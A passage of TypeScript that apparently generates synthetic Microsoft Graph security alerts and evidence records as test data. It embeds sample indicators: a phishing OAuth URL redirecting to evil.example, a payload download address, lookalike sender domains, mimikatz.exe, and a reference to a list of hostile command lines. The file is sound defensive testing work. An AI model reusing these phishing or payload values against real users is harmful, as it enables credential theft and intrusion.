    if (template.idPrefix === 'ed') return { QueryName: 'Rare parent for cmd.exe', RuleFrequency: 'Every 24 hours' };
    if (template.idPrefix === 'ma') return { 'Resource Type': 'Virtual Machine', 'Azure subscription ID': this.rng.guid() };
    return {};
  }

  private incidentStatus(redirectCandidate: string | undefined): IncidentStatus {
    if (this.incidentCount % 9 === 0 && redirectCandidate) return 'redirected';
    if (this.incidentCount % 6 === 0) return 'awaitingAction';
    return this.rng.pick<IncidentStatus>(['active', 'active', 'active', 'inProgress', 'resolved']);
  }

  // --- evidence ----------------------------------------------------------------------------

  private evidenceContext(created: string, createdTicks: bigint, severity: AlertSeverity): EvidenceContext {
    const person = this.rng.pick(PEOPLE);
    const host: DeviceFacts = {
      hostName: `${this.rng.pick(HOST_PREFIXES)}-${this.rng.int(100, 9999).toString().padStart(4, '0')}`,
      mdeDeviceId: this.rng.hex(40),
      azureAdDeviceId: this.rng.guid(),
      ip: `10.${this.rng.int(0, 255)}.${this.rng.int(0, 255)}.${this.rng.int(1, 254)}`,
      os: this.rng.pick(OS),
    };
    return { created, createdTicks, host, person, malicious: severity === 'high' || this.rng.chance(0.3) };
  }

  private evidenceFor(template: Template, ctx: EvidenceContext): AlertEvidence[] {
    const kinds = [...template.evidence, ...template.optionalEvidence.filter(() => this.rng.chance(0.3))];
    const evidence = kinds.map((kind) => this.evidence(kind, ctx));
    // Every third alert carries a kind this schema does not know yet.
    if (this.alertCount % 3 === 0) evidence.push(this.futureEvidence(ctx));
    return evidence;
  }

  private evidence(kind: EvidenceKind, ctx: EvidenceContext): AlertEvidence {
    switch (kind) {
      case 'device': return this.deviceEvidence(ctx);
      case 'process': return this.processEvidence(ctx);
      case 'file': return this.fileEvidence(ctx);
      case 'user': return this.userEvidence(ctx);
      case 'ip': return this.ipEvidence(ctx);
      case 'url': return this.urlEvidence(ctx);
      case 'mailbox': return this.mailboxEvidence(ctx);
      case 'analyzedMessage': return this.analyzedMessageEvidence(ctx);
      case 'registryKey': return this.registryKeyEvidence(ctx);
      case 'cloudApplication': return this.cloudApplicationEvidence(ctx);
      case 'oauthApplication': return this.oauthApplicationEvidence(ctx);
      case 'azureResource': return this.azureResourceEvidence(ctx);
    }
  }

  private common<T extends string>(type: T, ctx: EvidenceContext, roles: string[] = [], detailedRoles: string[] = []) {
    return {
      '@odata.type': type,
      createdDateTime: ctx.created,
      verdict: ctx.malicious ? this.rng.pick(['malicious', 'suspicious'] as const) : this.rng.pick(['unknown', 'suspicious', 'noThreatsFound'] as const),
      remediationStatus: this.rng.pick(['none', 'none', 'remediated', 'prevented', 'blocked', 'notFound'] as const),
      remediationStatusDetails: null,
      roles,
      detailedRoles,
      tags: [],
    };
  }

  private userAccount(person: Person): UserAccount {
    return {
      accountName: person.accountName,
      domainName: NT_DOMAIN,
      userSid: `S-1-5-21-1004336348-1177238915-682003330-${this.rng.int(1000, 9999)}`,
      azureAdUserId: this.rng.guid(),
      userPrincipalName: `${person.accountName}@${DOMAIN}`,
      displayName: person.displayName,
    };
  }

  private fileDetails(fileName: string, filePath: string): FileDetails {
    const signed = this.rng.chance(0.5);
    return {
      sha1: this.rng.hex(40),
      sha256: this.rng.hex(64),
      md5: this.rng.chance(0.5) ? this.rng.hex(32) : null,
      fileName,
      filePath,
      fileSize: this.rng.int(12_000, 9_000_000),
      filePublisher: signed ? 'Microsoft Corporation' : null,
      signer: signed ? 'Microsoft Windows' : null,
      issuer: signed ? 'Microsoft Windows Production PCA 2011' : null,
    };
  }

  private deviceEvidence(ctx: EvidenceContext): DeviceEvidence {
    const { host } = ctx;
    const onAzure = this.rng.chance(0.3);
    return {
      ...this.common('#microsoft.graph.security.deviceEvidence', ctx, ['compromised'], ['Main device']),
      firstSeenDateTime: formatTicks(ctx.createdTicks - 400n * 24n * 3600n * 1000n * TICKS_PER_MS + this.jitterTicks()),
      mdeDeviceId: host.mdeDeviceId,
      azureAdDeviceId: this.rng.chance(0.7) ? host.azureAdDeviceId : null,
      deviceDnsName: `${host.hostName}.${DOMAIN}`,
      hostName: host.hostName,
      ntDomain: NT_DOMAIN,
      dnsDomain: DOMAIN,
      osPlatform: host.os.osPlatform,
      osBuild: host.os.osBuild,
      version: host.os.version,
      healthStatus: this.rng.pick(['active', 'inactive', 'impairedCommunication']),
      riskScore: this.rng.pick(['none', 'low', 'medium', 'high']),
      rbacGroupId: this.rng.int(1, 120),
      rbacGroupName: this.rng.pick(['UnassignedGroup', 'Servers - Tier 0', 'Workstations EU']),
      onboardingStatus: 'onboarded',
      defenderAvStatus: this.rng.pick(['updated', 'notUpdated', 'disabled', 'unknown']),
      ipInterfaces: [host.ip, `fe80::${this.rng.hex(4)}:${this.rng.hex(4)}`],
      loggedOnUsers: [{ accountName: ctx.person.accountName, domainName: NT_DOMAIN }],
      vmMetadata: onAzure
        ? {
            vmId: this.rng.guid(),
            cloudProvider: 'azure',
            resourceId: `/subscriptions/${this.rng.guid()}/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/${host.hostName}`,
            subscriptionId: this.rng.guid(),
          }
        : null,
    };
  }

  /** Every third process evidence gets the next hostile command line, so small batches already contain them. */
  private commandLine(): string {
    this.processCount++;
    if (this.processCount % 3 === 1) {
      const variant = HOSTILE_COMMAND_LINES[Math.floor(this.processCount / 3) % HOSTILE_COMMAND_LINES.length]!;
      return variant();
    }
    return this.rng.pick(BENIGN_COMMAND_LINES);
  }

  private processEvidence(ctx: EvidenceContext): ProcessEvidence {
    const parentTicks = ctx.createdTicks - this.rng.ticks(3600n * 1000n * TICKS_PER_MS) - 1000n * TICKS_PER_MS;
    return {
      ...this.common('#microsoft.graph.security.processEvidence', ctx),
      processId: this.rng.int(400, 65_000),
      parentProcessId: this.rng.int(4, 4000),
      processCommandLine: this.commandLine(),
      processCreationDateTime: formatTicks(ctx.createdTicks - this.rng.ticks(1000n * TICKS_PER_MS)),
      parentProcessCreationDateTime: formatTicks(parentTicks),
      detectionStatus: this.rng.pick(['detected', 'blocked', 'prevented'] as const),
      mdeDeviceId: ctx.host.mdeDeviceId,
      imageFile: this.fileDetails(this.rng.pick(['powershell.exe', 'cmd.exe', 'rundll32.exe', 'update.exe']), 'C:\\Windows\\System32'),
      parentProcessImageFile: this.fileDetails(this.rng.pick(['explorer.exe', 'services.exe', 'WINWORD.EXE']), 'C:\\Windows'),
      userAccount: this.userAccount(ctx.person),
    };
  }

  private fileEvidence(ctx: EvidenceContext): FileEvidence {
    return {
      ...this.common('#microsoft.graph.security.fileEvidence', ctx, [], ['Referred in command line']),
      detectionStatus: this.rng.pick(['detected', 'blocked', 'prevented'] as const),
      mdeDeviceId: ctx.host.mdeDeviceId,
      fileDetails: this.fileDetails(
        this.rng.pick(['Invoice_2291.docm', 'p.bin', 'mimikatz.exe', 'Quarterly Report (final) \u2013 v2.xlsx']),
        `C:\\Users\\${ctx.person.accountName}\\Downloads`,
      ),
    };
  }

  private userEvidence(ctx: EvidenceContext): UserEvidence {
    return {
      ...this.common('#microsoft.graph.security.userEvidence', ctx, ['compromised'], []),
      userAccount: this.userAccount(ctx.person),
    };
  }

  private ipEvidence(ctx: EvidenceContext): IpEvidence {
    const c = this.rng.pick(COUNTRIES);
    return {
      ...this.common('#microsoft.graph.security.ipEvidence', ctx, ['attacker'], []),
      ipAddress: this.rng.chance(0.8)
        ? `${this.rng.pick([198, 203, 185, 45])}.${this.rng.int(0, 255)}.${this.rng.int(0, 255)}.${this.rng.int(1, 254)}`
        : `2001:db8:${this.rng.hex(4)}::${this.rng.hex(4)}`,
      countryLetterCode: c.code,
      location: { city: c.city, countryName: c.country, latitude: c.lat, longitude: c.lon, state: c.state },
    };
  }

  private urlEvidence(ctx: EvidenceContext): UrlEvidence {
    return {
      ...this.common('#microsoft.graph.security.urlEvidence', ctx, [], []),
      url: this.rng.pick([
        'https://login.micros0ft-support.com/common/oauth2/authorize?client_id=1&redirect_uri=https%3A%2F%2Fevil.example',
        'http://203.0.113.44/p.bin',
        'https://contoso-my.sharepoint.com/personal/megan_bowen/Documents/Invoice%202291.docm?web=1&x=<y>',
      ]),
    };
  }

  private mailboxEvidence(ctx: EvidenceContext): MailboxEvidence {
    return {
      ...this.common('#microsoft.graph.security.mailboxEvidence', ctx, ['destination'], []),
      primaryAddress: `${ctx.person.accountName}@${DOMAIN}`,
      displayName: ctx.person.displayName,
      userAccount: this.userAccount(ctx.person),
    };
  }

  private analyzedMessageEvidence(ctx: EvidenceContext): AnalyzedMessageEvidence {
    const sender = this.rng.pick(['billing@micros0ft-support.com', 'no-reply@docusign.example', 'ceo@contoso-corp.example']);
    const senderDomain = sender.split('@')[1]!;
    return {
      ...this.common('#microsoft.graph.security.analyzedMessageEvidence', ctx, [], []),
      networkMessageId: this.rng.guid(),
      internetMessageId: `<${this.rng.hex(24)}@${senderDomain}>`,
      subject: this.rng.pick(['Action required: invoice #2291 overdue', 'Re: Q3 payments <urgent> & confidential', '\ud83d\udd12 Your mailbox is almost full']),
      senderIp: `${this.rng.int(40, 220)}.${this.rng.int(0, 255)}.${this.rng.int(0, 255)}.${this.rng.int(1, 254)}`,
      recipientEmailAddress: `${ctx.person.accountName}@${DOMAIN}`,
      p1Sender: { displayName: null, domainName: senderDomain, emailAddress: sender },
      p2Sender: { displayName: 'Microsoft Billing', domainName: senderDomain, emailAddress: sender },
      antiSpamDirection: 'Inbound',
      deliveryAction: this.rng.pick(['Delivered', 'Blocked', 'Replaced']),
      deliveryLocation: this.rng.pick(['Inbox/folder', 'Quarantine', 'JunkFolder']),
      language: 'en',
      receivedDateTime: formatTicks(ctx.createdTicks - 5n * 60n * 1000n * TICKS_PER_MS),
      threatDetectionMethods: ['URL detonation reputation'],
      threats: ['Phish'],
      urlCount: 1,
      urls: ['https://login.micros0ft-support.com/common/oauth2/authorize'],
      attachmentsCount: this.rng.int(0, 2),
      urn: `urn:MailEntity:${this.rng.hex(32)}`,
    };
  }

  private registryKeyEvidence(ctx: EvidenceContext): OtherEvidence {
    return {
      ...this.common('#microsoft.graph.security.registryKeyEvidence', ctx),
      registryKey: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
      registryHive: 'HKEY_LOCAL_MACHINE',
    };
  }

  private cloudApplicationEvidence(ctx: EvidenceContext): OtherEvidence {
    return {
      ...this.common('#microsoft.graph.security.cloudApplicationEvidence', ctx, ['contextual'], []),
      appId: 20_893,
      displayName: 'Microsoft SharePoint Online',
      instanceId: 0,
      instanceName: 'Microsoft SharePoint Online',
      saasAppId: 20_893,
    };
  }

  private oauthApplicationEvidence(ctx: EvidenceContext): OtherEvidence {
    return {
      ...this.common('#microsoft.graph.security.oauthApplicationEvidence', ctx, ['contextual'], []),
      appId: this.rng.guid(),
      displayName: 'Mail Archiver Pro',
      objectId: this.rng.guid(),
      publisher: 'Unverified',
    };
  }

  private azureResourceEvidence(ctx: EvidenceContext): OtherEvidence {
    const sub = this.rng.guid();
    return {
      ...this.common('#microsoft.graph.security.azureResourceEvidence', ctx, ['compromised'], []),
      resourceId: `/subscriptions/${sub}/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/${ctx.host.hostName}`,
      resourceName: ctx.host.hostName,
      resourceType: 'Virtual Machine',
    };
  }

  /** An evidence kind newer than any client: nested objects, arrays, numbers, nulls. */
  private futureEvidence(ctx: EvidenceContext): OtherEvidence {
    return {
      ...this.common('#microsoft.graph.security.futureThingEvidence', ctx, ['contextual'], ['Introduced after this add-on shipped']),
      futureThingId: this.rng.guid(),
      quantumState: { superposition: true, amplitudes: [0.6, 0.8], observer: null },
      labels: ['alpha', 'β', '<gamma>'],
    };
  }
}

function unique<T>(value: T, index: number, all: readonly T[]): boolean {
  return all.indexOf(value) === index;
}

const SEVERITY_RANK: Readonly<Record<string, number>> = { unknown: 0, informational: 1, low: 2, medium: 3, high: 4 };

function highestSeverity(alerts: readonly Alert[]): AlertSeverity {
  let best: AlertSeverity = 'informational';
  for (const a of alerts) if ((SEVERITY_RANK[a.severity] ?? 0) > (SEVERITY_RANK[best] ?? 0)) best = a.severity;
  return best;
}
